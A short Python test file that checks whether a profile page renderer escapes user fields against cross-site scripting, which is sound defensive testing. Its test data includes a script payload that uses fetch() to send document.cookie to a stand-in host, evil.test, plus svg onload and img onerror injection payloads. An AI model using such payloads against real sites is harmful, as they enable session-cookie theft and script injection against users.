import importlib
import os
from html.parser import HTMLParser

mod = importlib.import_module(os.environ.get("CASE_MODULE", "app"))


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [a for a, _ in attrs]


def _parse(html):
    p = Tags()
    p.feed(html)
    return p


def test_bio_script_is_escaped():
    profile = mod.Profile("eve", "Eve", "<script>fetch('//evil.test?c='+document.cookie)</script>")
    parsed = _parse(mod.render_profile_page(profile))
    assert "script" not in parsed.tags


def test_display_name_and_location_are_escaped():
    profile = mod.Profile("eve", "<svg onload=alert(1)>", "bio", "<img src=x onerror=alert(2)>")
    parsed = _parse(mod.render_profile_page(profile))
    assert "svg" not in parsed.tags and "img" not in parsed.tags
    assert "onload" not in parsed.attrs and "onerror" not in parsed.attrs
